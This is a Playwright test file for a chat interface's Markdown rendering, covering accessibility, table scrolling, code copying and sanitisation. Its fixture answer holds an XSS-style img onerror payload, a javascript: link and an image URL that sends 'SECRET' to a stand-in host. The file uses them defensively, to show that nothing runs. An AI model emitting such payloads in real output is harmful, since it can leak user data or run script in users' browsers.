import AxeBuilder from '@axe-core/playwright';
import type { Page } from '@playwright/test';
import { expect, test, type Demo } from '../fixture.js';

const answer = `### Plan

Some **bold** words, a [guide](https://docs.example/guide) and <b>no HTML</b>.

- one
- two

| Step | Owner | What has to be true before it can begin, at length |
|:-----|------:|------|
| 1    | Ann   | An_address_that_never_ends_and_never_breaks_so_that_the_table_has_to_scroll_sideways |

\`\`\`sh
echo "hi"
\`\`\`

![secret](https://evil.example/?q=SECRET) <img src="https://evil.example/x" onerror="document.title = 'broken in'">
[run](javascript:document.title='broken'+'in')
`;

/** A server that answers with the text, in pieces of seven characters. */
async function serve(page: Page, text: string): Promise<void> {
  const pieces = text.match(/[^]{1,7}/g)!;
  const chunks = [...pieces.map((content) => ({ content, finish: null })), { content: '', finish: 'stop' }];
  const body = chunks
    .map(({ content, finish }) => ({
      id: 'a',
      object: 'chat.completion.chunk',
      created: 1,
      model: 'm',
      choices: [{ index: 0, delta: { content }, finish_reason: finish }],
    }))
    .map((chunk) => `data: ${JSON.stringify(chunk)}\n\n`)
    .concat('data: [DONE]\n\n')
    .join('');
  await page.route('https://models.example/v1/chat/completions', (route) =>
    route.fulfill({
      contentType: 'text/event-stream',
      headers: { 'access-control-allow-origin': '*' },
      body,
    }),
  );
}

async function askServer(demo: Demo): Promise<void> {
  const { page } = demo;
  await demo.open();
  await page.getByRole('combobox', { name: 'Provider' }).selectOption('OpenAI-compatible');
  const settings = page.getByRole('form', { name: 'Provider settings' });
  await settings.getByRole('textbox', { name: 'Base URL' }).fill('https://models.example/v1');
  await settings.getByRole('textbox', { name: 'Model' }).fill('m');
  await settings.getByLabel('API key').fill('key');
  await settings.getByRole('button', { name: 'Use from the next turn' }).click();
  await demo.ask('What is the plan?');
}

test.describe('Markdown', () => {
  test('an answer in Markdown is readable for eyes and screen readers: headings, lists, tables, code', async ({
    demo,
    page,
  }) => {
    await serve(page, answer);
    await askServer(demo);
    const text = demo.conversation.locator('.answer');
    await expect(text.getByRole('heading', { name: 'Plan', level: 3 })).toBeVisible();
    await expect(text.locator('strong')).toHaveText('bold');
    await expect(text.getByRole('listitem')).toHaveText(['one', 'two']);
    await expect(text.getByRole('cell', { name: 'Ann' })).toBeVisible();
    await expect(text.locator('pre')).toHaveText('echo "hi"');
    const { violations } = await new AxeBuilder({ page }).setLegacyMode().include('.conversation').analyze();
    expect(violations.map(({ id, nodes }) => `${id}: ${nodes.map((node) => node.html).join(' ')}`)).toEqual(
      [],
    );
  });

  test(
    'a wide table scrolls separately, and the page does not scroll',
    { tag: '@full' },
    async ({ demo, page }) => {
      await serve(page, answer);
      await askServer(demo);
      await page.setViewportSize({ width: 360, height: 740 });
      const scroller = demo.conversation.getByRole('group', { name: 'Table' });
      const widths = await scroller.evaluate((element) => [element.scrollWidth, element.clientWidth]);
      expect(widths[0]).toBeGreaterThan(widths[1]!);
      const whole = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
      expect(whole[0]).toBeLessThanOrEqual(whole[1]!);
    },
  );

  test(
    'R1 R2 R9 nothing in an answer runs or sends a request, and links show their targets',
    { tag: '@full' },
    async ({ demo, page }) => {
      const foreign: string[] = [];
      page.on('request', (request) => {
        if (request.url().includes('evil.example')) foreign.push(request.url());
      });
      await serve(page, answer);
      await askServer(demo);
      const text = demo.conversation.locator('.answer');
      await expect(text).toContainText('guide (docs.example)');
      await expect(text).toContainText('Image: secret (evil.example)');
      await expect(text).toContainText('<b>no HTML</b>');
      await expect(text.locator('img, script, b')).toHaveCount(0);
      await expect(text.getByRole('link', { name: 'run' })).toHaveCount(0);
      await expect(text.getByRole('link', { name: 'guide' })).toHaveAttribute('rel', /noopener/);
      await page.waitForLoadState('networkidle');
      expect(foreign).toEqual([]);
      await expect(page).toHaveTitle('Banister');
    },
  );

  test(
    'code is copied with a press, also with the keyboard',
    { tag: '@full' },
    async ({ demo, page, context }) => {
      await context.grantPermissions(['clipboard-read', 'clipboard-write']);
      await serve(page, answer);
      await askServer(demo);
      await demo.button('Copy code').press('Enter');
      await expect(demo.button('Copy code')).toHaveText('Copied');
      expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('echo "hi"');
    },
  );

  test(
    'drawn Markdown is there again after the view was unmounted',
    { tag: '@full' },
    async ({ demo, page }) => {
      await serve(page, answer);
      await askServer(demo);
      await demo.unmount();
      await demo.mount();
      await expect(demo.conversation.getByRole('heading', { name: 'Plan' })).toBeVisible();
    },
  );
});
